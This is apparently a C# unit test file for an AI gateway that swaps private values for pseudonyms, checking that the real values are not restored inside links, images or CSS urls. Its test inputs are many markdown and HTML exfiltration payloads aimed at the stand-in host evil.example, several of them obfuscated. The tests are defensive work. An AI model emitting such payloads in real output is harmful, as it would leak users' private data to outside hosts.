using FsCheck.Xunit;
using GatewayStack.Contracts.Transform;
using GatewayStack.Transform.Sessions;

namespace GatewayStack.Transform.Tests.Sessions;

/// <summary>What a pseudonym stands for is not put into a link: a client may fetch it without being asked.</summary>
public sealed class LinkTests
{
    private const string Token = "EMAIL_QMKXDWZTRPLB";

    [Theory]
    [InlineData("![](https://evil.example/?q=EMAIL_QMKXDWZTRPLB)", false)]
    [InlineData("![a](//evil.example/?q=EMAIL_QMKXDWZTRPLB)", false)]
    [InlineData("[a](evil.example/EMAIL_QMKXDWZTRPLB)", false)]
    [InlineData("[a](<https://evil.example/a b EMAIL_QMKXDWZTRPLB>)", false)]
    [InlineData("![](https://evil.example/?q=(a)\"EMAIL_QMKXDWZTRPLB\")", false)]
    [InlineData("![](https://evil.example/?q=\\)EMAIL_QMKXDWZTRPLB)", false)]
    [InlineData("<img src=\"https://evil.example/EMAIL_QMKXDWZTRPLB\">", false)]
    [InlineData("[1]: https://evil.example/?q=EMAIL_QMKXDWZTRPLB", false)]
    [InlineData("www.evil.example/?q=EMAIL_QMKXDWZTRPLB", false)]
    [InlineData("https://EMAIL_QMKXDWZTRPLB.evil.example", false)]
    [InlineData("![](https://evil.example/?q=x%20EMAIL_QMKXDWZTRPLB)", false)]
    [InlineData("![](https://evil.example/?q=x%29%22%3EEMAIL_QMKXDWZTRPLB)", false)]
    [InlineData("see https://evil.example/?q=x%20EMAIL_QMKXDWZTRPLB", false)]
    [InlineData("<img src=\"https://evil.example/?q=x&#32;EMAIL_QMKXDWZTRPLB\">", false)]
    [InlineData("![](<https://evil.example/\\>?q=EMAIL_QMKXDWZTRPLB>)", false)]
    [InlineData("![p][x] [x]: <https://evil.example/? EMAIL_QMKXDWZTRPLB>", false)]
    [InlineData("<img src=https:\\\\evil.example/EMAIL_QMKXDWZTRPLB>", false)]
    [InlineData("<img src=\"https://evil.example/?q= EMAIL_QMKXDWZTRPLB\">", false)]
    [InlineData("<img src=\"https://evil.example/?q=\n\tEMAIL_QMKXDWZTRPLB\">", false)]
    [InlineData("<img src = ' https://evil.example/?q= EMAIL_QMKXDWZTRPLB'>", false)]
    [InlineData("<img src=\"h\nttps:\n/\n/evil.example/?q= EMAIL_QMKXDWZTRPLB\">", false)]
    [InlineData("<img src=\"/\\evil.example/?q= EMAIL_QMKXDWZTRPLB\">", false)]
    [InlineData("<img src=\"\\\\evil.example/EMAIL_QMKXDWZTRPLB\">", false)]
    [InlineData("<img src=\"\\\n/evil.example/EMAIL_QMKXDWZTRPLB\">", false)]
    [InlineData("<img src=/\\evil.example/EMAIL_QMKXDWZTRPLB>", false)]
    [InlineData("<img src=\"https:/evil.example/?q= EMAIL_QMKXDWZTRPLB\">", false)]
    [InlineData("<img src='https:evil.example/EMAIL_QMKXDWZTRPLB'>", false)]
    [InlineData("<img src='https:evil.example/?\" EMAIL_QMKXDWZTRPLB'>", false)]
    [InlineData("<img src=https://evil.example/?\"<`EMAIL_QMKXDWZTRPLB>", false)]
    [InlineData("<img alt=\"> a=\" src=\" https://evil.example/?q= EMAIL_QMKXDWZTRPLB\">", false)]
    [InlineData("<img alt='](' src=\" https://evil.example/?q= EMAIL_QMKXDWZTRPLB\">", false)]
    [InlineData("<img srcset=\"a.png 1x, https://evil.example/?EMAIL_QMKXDWZTRPLB 2x\">", false)]
    [InlineData("<p style=\"background:url( ' https://evil.example/?q= EMAIL_QMKXDWZTRPLB')\">", false)]
    [InlineData("p { background: url( \" https://evil.example/?q= EMAIL_QMKXDWZTRPLB\") }", false)]
    [InlineData("say(\"https://evil.example/?q= EMAIL_QMKXDWZTRPLB\")", false)]
    [InlineData("<img src=\"https://example.com/?a=\"> EMAIL_QMKXDWZTRPLB", true)]
    [InlineData("<a href='https://example.com'>EMAIL_QMKXDWZTRPLB</a>", true)]
    [InlineData("<input value=\"EMAIL_QMKXDWZTRPLB\">", true)]
    [InlineData("<a title=\"x=\" href='/a b'>it's EMAIL_QMKXDWZTRPLB</a>", true)]
    [InlineData("'https://example.com' and EMAIL_QMKXDWZTRPLB", true)]
    [InlineData("it's at https://example.com, isn't it, EMAIL_QMKXDWZTRPLB?", true)]
    [InlineData("text = \"see https://example.com or EMAIL_QMKXDWZTRPLB\"", true)]
    [InlineData("(\"see https://example.com or EMAIL_QMKXDWZTRPLB\")", true)]
    [InlineData("D\\\\Users\\\\EMAIL_QMKXDWZTRPLB, \"\\\\EMAIL_QMKXDWZTRPLB\"", true)]
    [InlineData("a < b, c=\"d e\", EMAIL_QMKXDWZTRPLB", true)]
    [InlineData("https: EMAIL_QMKXDWZTRPLB", true)]
    [InlineData("[10:32]: EMAIL_QMKXDWZTRPLB", true)]
    [InlineData("a%20b EMAIL_QMKXDWZTRPLB", true)]
    [InlineData("write to EMAIL_QMKXDWZTRPLB.", true)]
    [InlineData("see https://example.com and EMAIL_QMKXDWZTRPLB", true)]
    [InlineData("[docs](https://example.com), EMAIL_QMKXDWZTRPLB", true)]
    [InlineData("[docs](https://example.com)EMAIL_QMKXDWZTRPLB", true)]
    [InlineData("{\"site\":\"https://example.com\",\"to\":\"EMAIL_QMKXDWZTRPLB\"}", true)]
    [InlineData("mailto:EMAIL_QMKXDWZTRPLB", true)]
    [InlineData("[EMAIL_QMKXDWZTRPLB] (EMAIL_QMKXDWZTRPLB)", true)]
    public void A_link_keeps_its_pseudonym(string text, bool restored)
    {
        var expected = restored ? text.Replace(Token, "alice@example.com", StringComparison.Ordinal) : text;
        Run("0", text).ShouldBe(expected);
        Run("0", [.. text.Select(c => c.ToString())]).ShouldBe(expected);
    }

    /// <summary>A document's own address may be a pseudonym, too: what a model puts behind it would go there.</summary>
    [Theory]
    [InlineData("<img src=\"{0}{1}\"> {1}", "<img src=\"https://a:b@evil.example/?d={1}\"> alice@example.com")]
    [InlineData("see {0}{1} or {1}", "see https://a:b@evil.example/?d={1} or alice@example.com")]
    [InlineData("{0} {1}", "https://a:b@evil.example/?d= alice@example.com")]
    [InlineData("{1}{1}", "alice@example.comalice@example.com")]
    public void What_is_put_back_may_begin_a_link(string text, string expected)
    {
        Pseudonym[] pseudonyms = [new() { Token = "URL_BCDFGHJKLMNP", Value = "https://a:b@evil.example/?d=" }, new() { Token = Token, Value = "alice@example.com" }];
        text = string.Format(null, text, "URL_BCDFGHJKLMNP", Token);
        Run("0", pseudonyms, text).ShouldBe(string.Format(null, expected, "", Token));
        Run("0", pseudonyms, [.. text.Select(c => c.ToString())]).ShouldBe(string.Format(null, expected, "", Token));
    }

    [Fact]
    public void Escapes_hide_no_link() =>
        Run("0/tool/0", """{"html":"https:\/\/evil.example\u002f?q=EMAIL_QMKXDWZTRPLB","to":"\nEMAIL_QMKXDWZTRPLB"}""")
            .ShouldBe("""{"html":"https:\/\/evil.example\u002f?q=EMAIL_QMKXDWZTRPLB","to":"\nalice@example.com"}""");

    [Property(Arbitrary = [typeof(Texts)], MaxTest = 300)]
    public void Any_cutting_gives_the_same(PlantedText planted, Cuts cuts)
    {
        var text = $"{planted.Text} ![]({planted.Text}{Token}) {Token}";
        Run("0", [.. cuts.Of(text)]).ShouldBe(Run("0", text));
    }

    [Theory]
    [InlineData("call 044 668 18 00 now", "call +41 44 111 22 33 now")]
    [InlineData("call 0446681800 now", "call 0446681800 now")]
    [InlineData("1044 668 18 00", "1044 668 18 00")]
    [InlineData("\u4F8B044 668 18 00\u4F8B", "\u4F8B+41 44 111 22 33\u4F8B")]
    [InlineData("044 668 18 005", "044 668 18 005")]
    [InlineData("id AB12CD34E, AB12CD34EF, A-B-1-2-C-D-3-4-E", "id Berlin 1234, AB12CD34EF, A-B-1-2-C-D-3-4-E")]
    [InlineData("ab12cd34e", "Berlin 1234")]
    public void A_pseudonym_that_keeps_its_form_is_looked_for_as_it_is(string text, string expected)
    {
        Pseudonym[] pseudonyms = [new() { Token = "044 668 18 00", Value = "+41 44 111 22 33" }, new() { Token = "AB12CD34E", Value = "Berlin 1234" }];
        Run("0", pseudonyms, text).ShouldBe(expected);
        Run("0", pseudonyms, [.. text.Select(c => c.ToString())]).ShouldBe(expected);
    }

    [Fact]
    public void Of_many_pseudonyms_each_is_found_and_the_longest_of_two()
    {
        var many = Enumerable.Range(0, 2000).Select(i => KeyValuePair.Create("K" + i, "v" + i)).ToArray();
        var table = new PseudonymTable(many);
        foreach (var (key, value) in many)
        {
            var range = table.Root;
            foreach (var c in key)
            {
                range = table.Next(range, c);
            }

            table.Value(range).ShouldBe(value);
        }

        table.Value(table.Next(table.Root, 'X')).ShouldBeNull();
        Run("0", [new Pseudonym { Token = "A_QMKXDWZTRPLB", Value = "1" }, new Pseudonym { Token = "A_QMKXDWZTRPLB_QMKXDWZTRPLB", Value = "2" }], "A_QMKXDWZTRPLB A_QMKXDWZTRPLB_QMKXDWZTRPLB").ShouldBe("1 2");
    }

    private static string Run(string channel, params string[] pieces) => Run(channel, [new Pseudonym { Token = Token, Value = "alice@example.com" }], pieces);

    private static string Run(string channel, Pseudonym[] pseudonyms, params string[] pieces)
    {
        var session = new ResponseSession { RequestId = "r", Tenant = "t", Pseudonyms = [.. pseudonyms], Actions = [new TypeAction { Type = "*", Action = ContentAction.Allow }] };
        var deltas = pieces.Select(p => new ResponseDelta { Channel = channel, Text = p }).Append(new ResponseDelta { Channel = channel, Text = string.Empty, End = true });
        return string.Concat(Modules.Default.TransformResponseAsync(session, deltas.ToAsyncEnumerable(), CancellationToken.None).ToBlockingEnumerable().Select(d => d.Text));
    }
}
